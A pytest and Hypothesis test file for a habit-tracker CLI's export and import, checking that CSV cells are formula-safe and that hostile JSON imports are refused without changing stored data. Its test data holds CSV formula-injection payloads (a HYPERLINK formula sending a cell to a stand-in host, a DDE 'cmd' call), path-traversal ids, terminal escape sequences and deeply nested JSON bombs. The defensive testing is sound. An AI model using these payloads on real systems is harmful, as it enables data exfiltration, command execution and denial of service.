"""Hostile exports and imports (exchange/): a CSV export holds no formula, and an import
is bounded, checked and refused whole, never half taken in (the rest of the hostile
input: tests/cli/test_hostile.py)."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st
from typer.testing import CliRunner

from cxhabits import clock
from cxhabits.domain import core, ids
from cxhabits.domain.model import AnchorChange, CheckIn, HabitRecord, Pause, Rating, Skip, State
from cxhabits.errors import UsageError
from cxhabits.exchange import export as transfer, importing
from cxhabits.storage import store
from tests.helpers import shortcuts
from tests.helpers.cli import cx, refused
from tests.helpers.faults import snapshot
from tests.helpers.hostile import (
    MONDAY,
    ONE_DAY,
    POSIX_ONLY,
    export_document,
    first_habit,
    no_raw,
)

runner = CliRunner()


# -- 3. CSV export: no formulas ---------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "=1+1",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
]


def test_csv_export_neutralises_formula_notes_and_json_stays_exact(
    cx_home: Path, picked: str
) -> None:
    for back, note in zip(range(1, 7), FORMULAS, strict=True):
        result = cx("checkin", "--date", (MONDAY - back * ONE_DAY).isoformat(), "--note", note)
        assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(io.StringIO(cx("export", "--format", "csv").stdout)))
    notes = [row[4] for row in rows[1:] if row[4]]
    assert len(notes) == len(FORMULAS), rows
    for cell in (cell for row in rows[1:] for cell in row):
        assert not cell.startswith(transfer.FORMULA_STARTS), cell
    assert {note.removeprefix("'") for note in notes} <= set(FORMULAS)
    exported = json.loads(cx("export").stdout)
    json_notes = {c["note"] for h in exported["habits"] for c in h["checkins"] if c["note"]}
    assert json_notes == {note.removeprefix("'") for note in notes}


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("2026-11-02", "2026-11-02"),
        ("", ""),
        ("a=1", "a=1"),
        ("'quoted", "'quoted"),
    ],
)
def test_spreadsheet_safe_cells(cell: str, safe: str) -> None:
    assert transfer.spreadsheet_safe(cell) == safe


# -- 5. import: bounds, ids and paths ------------------------------------------------------------


def edited(habit: str, path: str, value: Any) -> str:
    """The export with one value replaced (`habits.0.id`-style path)."""
    document = export_document(habit)
    *parents, last = path.split(".")
    target: Any = document
    for key in parents:
        target = target[int(key)] if isinstance(target, list) else target[key]
    if isinstance(target, list):
        target[int(last)] = value
    else:
        target[last] = value
    return json.dumps(document)


BAD_IDS = [
    "../../../tmp/evil",
    "agent/../../x",
    "sub/dir",
    "agent.x\x1b]0;PWNED\x07",
    "agent.ok\u202e",
    "",
    "AGENT.UPPER",
    "agent." + "x" * 200,
    "/etc/passwd",
    "agent.a\\b",
]


def hostile_imports(habit: str) -> dict[str, str | bytes]:
    ids = {
        f"id {i}: {bad!r}"[:40]: edited(habit, "habits.0.id", bad) for i, bad in enumerate(BAD_IDS)
    }
    return {
        **ids,
        "id a number": edited(habit, "habits.0.id", 7),
        "id a list": edited(habit, "habits.0.id", ["agent", "x"]),
        "a 5,000-digit number": '{"format": "cxhabits-export", "version": ' + "9" * 5000 + "}",
        "a 5,000-digit score": edited(habit, "habits.0.ratings.0.scores", "X").replace(
            '"X"', "[" + "5" * 5000 + ",5,5,5]"
        ),
        "nested 100k deep": "[" * 100_000 + "]" * 100_000,
        "objects nested 100k deep": '{"a":' * 100_000 + "1" + "}" * 100_000,
        "a pause reason that is a number": edited(habit, "pauses.0.reason", 5),
        "a pause reason that is a list": edited(habit, "pauses.0.reason", ["x"]),
        "a note that is a number": edited(habit, "habits.0.checkins.0.note", 1e308),
        "a note with an escape": edited(habit, "habits.0.checkins.0.note", "\x1b[2J"),
        "a note with a bidi override": edited(habit, "habits.0.checkins.0.note", "a\u202eb"),
        "a 0001-01-01 pick": edited(habit, "habits.0.picked", "0001-01-01"),
        "a 9999-12-31 pause": edited(habit, "pauses.0.to", "9999-12-31"),
        "a 1999-12-31 check-in": edited(habit, "habits.0.checkins.0.day", "1999-12-31"),
        "a 2101-01-01 drop": edited(habit, "habits.0.dropped_on", "2101-01-01"),
        "a pause that ends first": edited(habit, "pauses.0.to", "2026-12-01"),
        "pauses not a list": edited(habit, "pauses", "2026-12-24"),
        "habits an object": edited(habit, "habits", {"id": habit}),
        "check-ins a string": edited(habit, "habits.0.checkins", "2026-10-02"),
        "scores as text": edited(habit, "habits.0.ratings.0.scores", ["5", "5", "5", "5"]),
        "scores as booleans": edited(habit, "habits.0.ratings.0.scores", [True] * 4),
        "a setting that is a table": edited(habit, "settings", {"workdays": {"a": 1}}),
        "a status that is a path": edited(habit, "habits.0.status", "../x"),
        "not JSON": "{nope",
        "not UTF-8": b"\xff\xfe\x00garbage",
        "an empty file": "",
        "JSON but a list": "[]",
        "a newer version": json.dumps({"format": "cxhabits-export", "version": 99}),
    }


def test_every_hostile_import_is_refused_and_changes_nothing(
    cx_home: Path, picked: str, tmp_path: Path
) -> None:
    cases = hostile_imports(first_habit())
    before = snapshot(cx_home)
    outside = sorted(p.name for p in tmp_path.iterdir())
    for name, content in cases.items():
        file = tmp_path / "in" / "import.json"
        file.parent.mkdir(exist_ok=True)
        if isinstance(content, bytes):
            file.write_bytes(content)
        else:
            file.write_text(content, encoding="utf-8")
        result = cx("import", str(file))
        try:
            refused(result, 2)
        except AssertionError as exc:
            raise AssertionError(f"{name}: {exc}") from None
        no_raw(result.stderr)
        assert snapshot(cx_home) == before, name
    assert sorted(p.name for p in tmp_path.iterdir() if p.name != "in") == outside
    assert not Path("/tmp/evil").exists()
    assert len(cases) >= 30


@pytest.mark.parametrize(
    ("make", "words"),
    [
        (lambda tmp: tmp / "missing.json", ["no file"]),
        (lambda tmp: tmp, ["folder"]),
        (lambda tmp: Path("/nonexistent/dir/export.json"), ["no file"]),
    ],
    ids=["missing", "a folder", "missing folder"],
)
def test_an_import_file_that_is_not_there_is_said_plainly(
    cx_home: Path, tmp_path: Path, make: Any, words: list[str]
) -> None:
    result = cx("import", str(make(tmp_path)))
    refused(result, 2, *words)
    assert "Errno" not in result.stderr


@POSIX_ONLY
def test_an_import_over_50_mb_is_refused_before_reading_it_all(
    cx_home: Path, tmp_path: Path
) -> None:
    big = tmp_path / "big.json"
    with big.open("wb") as stream:
        stream.truncate(importing.MAX_IMPORT_BYTES + 1)  # sparse: no 50 MB written
    refused(cx("import", str(big)), 2, "50 MB")
    if Path("/dev/zero").exists():
        refused(cx("import", "/dev/zero"), 2, "/dev/zero", "device")  # never read


def test_settings_that_are_paths_are_never_imported(cx_home: Path, tmp_path: Path) -> None:
    document = export_document(first_habit())
    document["settings"] = {"packs": str(tmp_path / "elsewhere"), "backfill_days": "5"}
    file = tmp_path / "export.json"
    file.write_text(json.dumps(document), encoding="utf-8")
    result = cx("import", str(file))
    assert result.exit_code == 0, result.stderr
    settings = store.load(cx_home).settings
    assert settings.packs == () and settings.backfill_days == 5
    assert "packs" in result.stderr


def test_conflict_lines_show_outside_text_literally(cx_home: Path, tmp_path: Path) -> None:
    document = export_document(first_habit())
    document["settings"] = {"\x1b]0;PWNED\x07": "x", "x\u202ey": "1"}
    file = tmp_path / "export.json"
    file.write_text(json.dumps(document), encoding="utf-8")
    result = cx("import", str(file))
    assert result.exit_code == 0, result.stderr
    no_raw(result.stdout, result.stderr)
    assert "\\x1b]0;PWNED\\x07" in result.stderr


def test_skips_and_anchors_survive_an_export_and_an_import() -> None:
    record = HabitRecord(
        first_habit(),
        MONDAY,
        checkins=(CheckIn(MONDAY, "=1+1"), CheckIn(MONDAY + 2 * ONE_DAY)),
        ratings=(Rating(MONDAY + ONE_DAY, (5, 6, 5, 6)),),
        skips=(Skip(MONDAY + ONE_DAY, "no calls"),),
        anchors=(AnchorChange(MONDAY, "After I close a ticket"),),
    )
    state = State(habits=(record,), pauses=(Pause(MONDAY + 7 * ONE_DAY, MONDAY + 9 * ONE_DAY),))
    settings, pauses, habits = importing.from_json(shortcuts.export_json(state), "test")
    merged, added, conflicts = importing.merge(State(), settings, pauses, habits)
    assert added == importing.Added(habits=1, pauses=True)
    assert merged.habits == state.habits and merged.pauses == state.pauses
    again, added_again, _ = importing.merge(merged, settings, pauses, habits)
    assert again == merged and not added_again.anything and not conflicts


# -- generated hostile exports: refused, or taken in only as checked values ------------------------

JSON_VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False)
    | st.text(max_size=12)
    | st.sampled_from(["2026-11-02", "0001-01-01", "9999-12-31", "../x", "agent.x", "=1+1"]),
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=5), children)
    ),
    max_leaves=8,
)


def paths_in(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [path]
    if isinstance(value, dict):
        for key, child in value.items():
            found += paths_in(child, (*path, key))
    elif isinstance(value, list):
        for index, child in enumerate(value):
            found += paths_in(child, (*path, index))
    return found


@given(data=st.data())
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_a_generated_hostile_export_is_refused_or_taken_in_checked(data: st.DataObject) -> None:
    document: Any = export_document("agent.one-word-for-the-feeling")
    for _ in range(data.draw(st.integers(1, 3))):
        path = data.draw(st.sampled_from(paths_in(document)))
        value = data.draw(JSON_VALUES)
        if not path:
            document = value
            continue
        target = document
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = value
    try:
        settings_in, pauses, habits = importing.from_json(json.dumps(document), "generated")
        merged, _added, _conflicts = importing.merge(State(), settings_in, pauses, habits)
    except UsageError:
        return
    for record in merged.habits:
        assert re.fullmatch(ids.HABIT_ID, record.id), record.id
        days = [record.picked, *(c.day for c in record.checkins), *(r.day for r in record.ratings)]
        assert all(clock.day_in_range(day) for day in days)
        for checkin in record.checkins:
            assert core.clean_text(checkin.note, "note") == checkin.note
    for pause in merged.pauses:
        assert clock.day_in_range(pause.start) and clock.day_in_range(pause.end)
    assert merged.settings.packs == ()
